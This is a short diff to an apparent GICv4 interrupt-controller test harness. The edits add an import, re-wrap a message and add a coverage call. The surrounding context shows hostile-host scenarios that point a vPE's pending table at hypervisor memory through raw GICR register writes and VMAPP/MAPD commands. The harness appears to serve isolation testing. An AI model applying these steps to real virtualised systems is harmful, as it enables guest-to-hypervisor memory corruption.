@@ -8,7 +8,7 @@ from __future__ import annotations
 from typing import TYPE_CHECKING, Final
 
 from itsbox.arch.its_commands import INT, MAPC, MAPD, MAPTI, SYNC, VMAPP, VMAPP_V41, VMAPTI
-from itsbox.arch.its_registers import GITS_TYPER
+from itsbox.arch.its_registers import GITS_TYPER, TABLE_VPES
 from itsbox.arch.its_tables import ITT_ALIGNMENT, VTE_V41
 from itsbox.arch.redist_registers import (
     GICR_CTLR,
@@ -97,7 +97,9 @@ def vpe_table_forged(host: HostileHost) -> None:
 def _resident_anywhere(host: HostileHost, victim: int) -> None:
     """GICv4.0: the address of the resident vPE's pending table is written as it is."""
     _map_vpe(host, vpe_id=3, vpt=host.pages(16, 1 << 16))
-    host.say("Make a vPE resident whose pending table is hypervisor memory: two raw addresses, written at each vCPU load.")
+    host.say(
+        "Make a vPE resident whose pending table is hypervisor memory: two raw addresses, written at each vCPU load."
+    )
     prop = GICR_VPROPBASER.decode(0).replace(id_bits=15, physical_address=host.pages(16, 1 << 16))
     host.write(host.gicr(GICR_VPROPBASER, _CPU), prop.word())
     pend = GICR_VPENDBASER.decode(0).replace(physical_address=victim, valid=1)
@@ -114,6 +116,7 @@ def _map_vpe(host: HostileHost, vpe_id: int, vpt: int) -> None:
     for itt in (page + ITT_ALIGNMENT, page):
         if host.post(MAPD(device_id=_DEVICE + 4, size=EVENT_BITS, itt_addr=itt, valid=1)) == ["executed"]:
             break
+    host.cover(TABLE_VPES, vpe_id)
     host.post(VMAPP(vpe_id=vpe_id, rd_base=_CPU, valid=1, vpt_size=15, vpt_addr=vpt))
 
 
